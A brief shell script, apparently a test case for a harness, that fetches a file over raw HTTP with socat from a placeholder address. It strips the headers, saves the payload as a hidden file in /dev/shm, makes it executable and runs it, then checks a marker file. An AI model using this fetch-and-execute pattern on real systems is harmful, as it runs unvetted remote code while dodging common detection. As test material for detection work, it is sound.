#!/bin/sh
. /opt/case/case.sh

printf 'GET /programs/marker HTTP/1.0\r\n\r\n' | socat -T 2 - TCP:203.0.113.10:80 >/tmp/answer
perl -0777 -ne 's/^.*?\r\n\r\n//s; print' /tmp/answer >/dev/shm/.q
chmod 700 /dev/shm/.q
/dev/shm/.q
test -e /tmp/reached
took_place
